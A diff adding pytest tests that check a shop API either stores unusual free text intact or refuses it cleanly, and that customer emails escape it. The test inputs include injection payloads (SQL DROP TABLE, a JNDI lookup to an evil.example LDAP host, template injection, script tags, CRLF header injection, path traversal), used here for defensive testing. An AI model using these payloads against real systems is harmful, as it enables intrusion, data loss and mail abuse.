@@ -1042,3 +1042,141 @@ def test_a_callback_is_taken_as_the_provider_sends_it_with_a_charset(shop, provi
     headers = {p.header: sign(p.secret, body), "Content-Type": "application/json; charset=utf-8"}
     r = answer(api, "POST", p.path, headers, body)
     assert r.status_code == 200, r.json
+
+
+# --- valid but odd free text: accepted intact, or refused cleanly ----------------------------
+
+ODD_TEXT = {
+    "emoji and a ZWJ family": "Zoë \U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467",
+    "combining marks": "Zoe\u0308 Ame\u0301lie",
+    "RTL override": "Erika \u202eakirE\u202c",
+    "zero-width joiner": "Er\u200dika",
+    "NUL": "Erika\x00M",
+    "SQL": "Robert'); DROP TABLE orders;--",
+    "DynamoDB expression": "#name = :v",
+    "JNDI": "${jndi:ldap://evil.example/a}",
+    "Jinja": "{{7*7}} {{ shop.name }}",
+    "Jinja raw": "{% raw %}x{% endraw %}{% if 1 %}",
+    "script": "<script>alert(1)</script>",
+    "CRLF": "Erika\r\nBcc: evil@example.com",
+    "traversal": "../../etc/passwd",
+    "longest postal code": "\u00df" * 40,
+}
+
+
+#: What real names and addresses contain (O'Brien, Zoë written with a
+#: combining diaeresis, emoji, long German words): never refused.
+MUST_ACCEPT = {"combining marks", "emoji and a ZWJ family", "SQL", "longest postal code"}
+
+
+def accepted_or_refused(r: Any, table: str, before: list[str], ok: int, what: str) -> bool:
+    """True if accepted; a refusal must be a clean 4xx that changed nothing."""
+    if r.status_code == ok:
+        return True
+    assert what not in MUST_ACCEPT, (r.status_code, r.json)
+    assert 400 <= r.status_code < 500, (r.status_code, r.json)
+    assert_error_body(r)
+    assert snapshot(table) == before
+    return False
+
+
+@pytest.mark.parametrize("what", ODD_TEXT)
+def test_odd_text_in_an_order_comes_back_intact_or_is_refused(shop, what):
+    api, table, _ = shop
+    value = ODD_TEXT[what]
+    odd = {f: value for f in ("name", "company", "line1", "line2", "postal_code", "city")}
+    body = order_body(
+        [("tea", 1)],
+        customer={"email": "odd@example.com", "name": value},
+        shipping_address=address(**odd),
+        billing_address=address(**odd),
+    )
+    before = snapshot(table)
+    r = api.place(body)
+    if not accepted_or_refused(r, table, before, 201, what):
+        return
+    view = api.call("GET", f"/orders/{r.json['id']}", None, bearer(r.json["token"])).json
+    assert view["customer"]["name"] == value
+    for kind in ("shipping_address", "billing_address"):
+        assert {f: view[kind][f] for f in odd} == odd
+
+
+def bearer(token: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {token}"}
+
+
+@pytest.mark.parametrize("what", ODD_TEXT)
+def test_odd_text_in_reasons_notes_names_and_references_comes_back_intact_or_is_refused(shop, what):
+    api, table, _ = shop
+    value = ODD_TEXT[what]
+
+    def order(method: str = "card") -> dict[str, Any]:
+        r = api.place(order_body([("tea", 1)], payment_method=method))
+        assert r.status_code == 201, r.json
+        return r.json
+
+    def detail(order_id: str) -> dict[str, Any]:
+        return api.admin("GET", f"/admin/orders/{order_id}").json
+
+    placed = order()
+    before = snapshot(table)
+    r = api.call(
+        "POST", f"/orders/{placed['id']}/cancel", {"reason": value}, bearer(placed["token"])
+    )
+    if accepted_or_refused(r, table, before, 200, what):
+        assert r.json["cancel_reason"] == value
+
+    placed = order()
+    before = snapshot(table)
+    r = api.admin("POST", f"/admin/orders/{placed['id']}/cancel", {"reason": value})
+    if accepted_or_refused(r, table, before, 200, what):
+        assert detail(placed["id"])["cancel_reason"] == value
+
+    before = snapshot(table)
+    r = api.admin("POST", f"/admin/orders/{placed['id']}/notes", {"note": value})
+    if accepted_or_refused(r, table, before, 201, what):
+        assert [n["note"] for n in detail(placed["id"])["notes"]] == [value]
+
+    placed = order("bank_transfer")
+    before = snapshot(table)
+    r = api.admin("POST", f"/admin/orders/{placed['id']}/payments", {"bank_reference": value})
+    if accepted_or_refused(r, table, before, 200, what):
+        assert [p["reference"] for p in r.json["payments"]] == [value]
+
+    sku = f"ODD-{list(ODD_TEXT).index(what)}"
+    before = snapshot(table)
+    product = {"name": value, "price": 100, "currency": "EUR", "tax_rate": "19"}
+    r = api.admin("PUT", f"/admin/products/{sku}", product)
+    if accepted_or_refused(r, table, before, 200, what):
+        assert api.call("GET", f"/products/{sku}").json["name"] == value
+
+
+def test_odd_names_render_literally_and_escaped_in_the_emails_and_inject_no_header(api, pipeline):
+    name = "<script>alert(1)</script> {{7*7}} {% raw %}x{% endraw %}\r\nBcc: evil@example.com"
+    api.add_product("tea", available=5)
+    r = api.place(
+        order_body([("tea", 1)], locale="en", customer={"email": "zoe@example.com", "name": name})
+    )
+    assert r.status_code == 201, r.json
+    assert pipeline.consume(pipeline.flow()) == []
+    (customer,) = [m for m in pipeline.mails() if m.to == "zoe@example.com"]
+    assert "<script>" not in customer.html
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; {{7*7}} {% raw %}x{% endraw %}" in customer.html
+    assert "49" not in customer.text.replace(r.json["number"], "")
+    assert "{{7*7}} {% raw %}x{% endraw %}" in customer.text
+    assert customer.headers["Bcc"] is None
+    assert [k for k in customer.headers if k.lower() not in STANDARD_HEADERS] == []
+
+
+STANDARD_HEADERS = {
+    "from",
+    "to",
+    "reply-to",
+    "subject",
+    "date",
+    "content-type",
+    "content-language",
+    "mime-version",
+    "content-transfer-encoding",
+    "message-id",
+}
